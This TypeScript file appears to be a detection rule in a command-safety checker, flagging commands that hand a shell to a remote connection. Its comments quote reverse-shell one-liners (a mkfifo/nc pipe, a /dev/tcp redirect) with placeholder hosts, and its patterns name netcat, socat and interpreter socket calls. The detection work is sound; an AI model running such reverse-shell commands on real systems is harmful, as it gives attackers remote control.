// Gives a shell to whoever is at the other end of a connection: a tool for it, or a line of code.

import { keepAndStop } from '../advice.ts';
import { baseName, isInterpreter, isShell } from '../program-kinds.ts';
import type { Subject } from '../subject.ts';
import type { Hit, Warning } from '../warning.ts';

const tools = /^(nc(\.\w+)?|ncat|netcat|socat\d?)$/;
/** As in `-e /bin/sh`, `--sh-exec=bash`, `EXEC:'sh -i',pty` and `SYSTEM:/bin/bash`. */
const breaks = /[\s,:="']+/;

function byTool({ command }: Subject): Hit | null {
  const shell = command.find(
    (word, index) => index > 0 && word.split(breaks).some((part) => isShell(baseName(part))),
  );
  return shell === undefined ? null : { evidence: shell, isGrave: true };
}

const device = /\/dev\/(tcp|udp)\/|\bztcp\b/;
/** What stands together in a line of a shell that leads what is typed far away into a shell. */
const byShell: readonly (readonly RegExp[])[] = [
  // mkfifo f; cat f | sh -i | nc HOST PORT > f
  [/\bmk(fifo|nod)\b/, /\b(nc(\.\w+)?|ncat|netcat|telnet|socat|s_client)\s/, /\b(ba|da|z|k)?sh\b/],
  // exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5
  [device, /\b(ba|da|z|k)?sh\s+(-i\b|\d*[<>]&)/],
  // cat <&5 | while read line; do $line >&5; done
  [device, /\bread\s+(?:-r\s+)?(\w+)\s*;?\s*do\s+(?:eval\s+)?"?\$\{?\1\b/],
];

/** How Python, Perl, Ruby, PHP, Node.js, Lua and gawk make a connection in one line. */
const connects = new RegExp(
  '\\bsocket\\b|IO::Socket|\\bMIO\\b|TCPSocket|fsockopen|stream_socket_client|' +
    '\\bnet\\b.*\\b(connect|Socket)\\b|/inet\\d?/(tcp|udp)/',
  'is',
);
/** How they run what came through it. */
const runs = new RegExp(
  '\\b(subprocess|pty\\.spawn|child_process|proc_open|shell_exec|passthru|popen|' +
    'os\\.(system|exec\\w+))\\b|\\bsystem\\s*[$(]|' +
    '(\\b(exec\\w*|spawn)\\s*[(["\']+|`)(/\\w+)*/?(ba|da|z|k|a)?sh\\b|\\|&\\s*getline',
  'i',
);

/** Code that stands in the command line: no program of any length is written there. */
function byCode({ command, called }: Subject): Hit | null {
  const ways = isShell(called) ? byShell : [[runs]];
  const found = command.find((word, index) => {
    if (index === 0 || !/\s|[(;]/.test(word)) return false;
    return ways.some((signs) => signs.every((sign) => sign.test(word)));
  });
  if (found === undefined) return null;
  const isConnected = isShell(called) || command.some((word) => connects.test(word));
  return isConnected ? { evidence: found, isGrave: true } : null;
}

export default {
  name: 'shell-handed-out',
  rule: 'SHELL_HANDED_OUT',
  severity: 'danger',
  why: {
    en: 'It gives a shell to whoever is at the other end of its connection.',
    ko: '연결 상대에게 셸을 내줍니다.',
  },
  advice: keepAndStop,
  reads: ['commandLine'],
  check(subject) {
    if (tools.test(subject.called)) return byTool(subject);
    return isInterpreter(subject.called) ? byCode(subject) : null;
  },
} satisfies Warning;
